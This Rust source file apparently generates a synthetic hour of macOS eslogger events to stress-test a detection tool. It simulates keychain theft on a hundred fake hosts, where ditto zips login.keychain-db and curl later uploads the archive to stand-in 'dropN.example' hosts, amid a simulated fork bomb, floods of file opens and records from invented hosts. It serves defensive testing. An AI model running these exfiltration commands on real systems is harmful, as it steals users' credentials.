//! A flood around quiet thefts: what somebody sends who wants them to be forgotten.
//!
//! One hour in which so many hosts are robbed, each by an archive of a keychain that is sent twenty minutes
//! later, while on the same hosts a fork bomb runs and files are opened without end, and records name
//! hosts that nobody has.

use std::io::{self, Write};

use tollgate_model::Timestamp;

use crate::rfc3339;

/// How much there is of everything.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// Hosts that are robbed; each has one theft.
    pub thefts: u32,
    /// Forks on the first of them. None ends.
    pub forks: u64,
    /// Opens on all of them.
    pub opens: u64,
    /// Hosts that are made up, each with one program that ran.
    pub made_up: u64,
}

impl Flood {
    /// The full measure, or a part of it. There are always a hundred thefts.
    pub fn of(part: f64) -> Self {
        let share = |whole: f64| (whole * part) as u64;
        Self { thefts: 100, forks: share(1e6), opens: share(1e7), made_up: share(1e6) }
    }
}

const START: i64 = 1_764_057_600;
const SECONDS: u64 = 3_600;

/// Writes the hour as `eslogger` would, with the host in every record, in order of time.
pub fn flood(flood: Flood, out: &mut impl Write) -> io::Result<()> {
    let mut hour = Hour { out, at: Timestamp::from_secs(START) };
    for number in 0..flood.thefts {
        hour.shell(number)?;
    }
    for second in 0..SECONDS {
        hour.at = Timestamp::from_secs(START + 1 + second as i64);
        let due = |whole: u64| whole * second / SECONDS..whole * (second + 1) / SECONDS;
        for number in 0..flood.thefts {
            // Packed in the first half hour, sent twenty minutes later.
            let begin = u64::from(number) * 17 % 1_800;
            match second.checked_sub(begin) {
                Some(0) => hour.pack(number)?,
                Some(1_200) => hour.send(number)?,
                _ => {}
            }
        }
        for fork in due(flood.forks) {
            hour.fork(fork)?;
        }
        for open in due(flood.opens) {
            hour.open(open, flood.thefts)?;
        }
        for made_up in due(flood.made_up) {
            hour.made_up(made_up)?;
        }
    }
    Ok(())
}

struct Hour<'o, W> {
    out: &'o mut W,
    at: Timestamp,
}

fn host(number: u32) -> String {
    format!("mac-{number:03}")
}

fn process(pid: u64, version: u64, path: &str, id: &str) -> String {
    format!(
        r#"{{"audit_token":{{"auid":501,"euid":501,"ruid":501,"egid":20,"rgid":20,"asid":100,"pid":{pid},"pidversion":{version}}},"ppid":1,"original_ppid":1,"group_id":1,"session_id":1,"codesigning_flags":570522369,"cdhash":"","signing_id":"{id}","team_id":"","is_platform_binary":true,"is_es_client":false,"executable":{{"path":"{path}","path_truncated":false}}}}"#
    )
}

const SHELL: (&str, &str) = ("/bin/zsh", "com.apple.zsh");

impl<W: Write> Hour<'_, W> {
    fn line(&mut self, host: &str, kind: u32, process: &str, event: &str) -> io::Result<()> {
        self.at = self.at.plus(tollgate_model::Nanos(50_000));
        let time = rfc3339(self.at);
        writeln!(
            self.out,
            r#"{{"schema_version":1,"version":9,"time":"{time}","event_type":{kind},"action_type":1,"host":"{host}","process":{process},"event":{event}}}"#
        )
    }

    fn exec(&mut self, host: &str, (pid, version): (u64, u64), (path, id): (&str, &str), args: &[&str]) -> io::Result<()> {
        let before = process(pid, version, SHELL.0, SHELL.1);
        let target = process(pid, version + 1, path, id);
        let args = args.iter().map(|word| format!("\"{word}\"")).collect::<Vec<_>>().join(",");
        self.line(
            host,
            9,
            &before,
            &format!(r#"{{"exec":{{"target":{target},"args":[{args}],"cwd":{{"path":"/Users/ana"}},"script":null}}}}"#),
        )
    }

    fn forked(&mut self, host: &str, parent: (u64, u64), child: (u64, u64)) -> io::Result<()> {
        let parent = process(parent.0, parent.1, SHELL.0, SHELL.1);
        let child = process(child.0, child.1, SHELL.0, SHELL.1);
        self.line(host, 11, &parent, &format!(r#"{{"fork":{{"child":{child}}}}}"#))
    }

    fn read(&mut self, host: &str, by: &str, path: &str, size: u64) -> io::Result<()> {
        self.line(
            host,
            10,
            by,
            &format!(r#"{{"open":{{"fflag":1,"file":{{"path":"{path}","path_truncated":false,"stat":{{"st_size":{size}}}}}}}}}"#),
        )
    }

    fn exit(&mut self, host: &str, by: &str) -> io::Result<()> {
        self.line(host, 15, by, r#"{"exit":{"stat":0}}"#)
    }

    /// The terminal's shell, from which all comes.
    fn shell(&mut self, number: u32) -> io::Result<()> {
        self.exec(&host(number), (400, 10), SHELL, &["-zsh"])
    }

    fn pack(&mut self, number: u32) -> io::Result<()> {
        let (host, archive) = (host(number), format!("/private/tmp/a{number}.zip"));
        let key = "/Users/ana/Library/Keychains/login.keychain-db";
        self.forked(&host, (400, 11), (500, 20))?;
        let tool = ("/usr/bin/ditto", "com.apple.ditto");
        self.exec(&host, (500, 20), tool, &["ditto", "-c", "-k", key, &archive])?;
        let by = process(500, 21, tool.0, tool.1);
        self.read(&host, &by, key, 200_000)?;
        let file = format!(r#"{{"path":"{archive}","path_truncated":false,"stat":{{"st_size":150000}}}}"#);
        self.line(&host, 13, &by, &format!(r#"{{"create":{{"destination_type":0,"destination":{{"existing_file":{file}}}}}}}"#))?;
        self.line(&host, 12, &by, &format!(r#"{{"close":{{"modified":true,"target":{file}}}}}"#))?;
        self.exit(&host, &by)
    }

    fn send(&mut self, number: u32) -> io::Result<()> {
        let (host, archive) = (host(number), format!("/private/tmp/a{number}.zip"));
        self.forked(&host, (400, 11), (501, 30))?;
        let tool = ("/usr/bin/curl", "com.apple.curl");
        let form = format!("f=@{archive}");
        self.exec(&host, (501, 30), tool, &["curl", "-F", &form, &format!("https://drop{number}.example/")])?;
        let by = process(501, 31, tool.0, tool.1);
        self.read(&host, &by, &archive, 150_000)?;
        self.exit(&host, &by)
    }

    /// The bomb grows from the shell on the first host.
    fn fork(&mut self, number: u64) -> io::Result<()> {
        let of = |number: u64| (1_000 + number % 98_000, 1_000 + number);
        let parent = if number == 0 { (400, 11) } else { of(number / 2) };
        self.forked(&host(0), parent, of(number + 1))
    }

    fn open(&mut self, number: u64, hosts: u32) -> io::Result<()> {
        let by = process(700, 40, "/usr/bin/find", "com.apple.find");
        let path = format!("/Users/ana/src/m{}/f{number}.c", number % 977);
        self.read(&host((number % u64::from(hosts)) as u32), &by, &path, 100)
    }

    fn made_up(&mut self, number: u64) -> io::Result<()> {
        let tool = ("/usr/bin/true", "com.apple.true");
        self.exec(&format!("made-up-{number}.example"), (600, 5), tool, &["true"])
    }
}
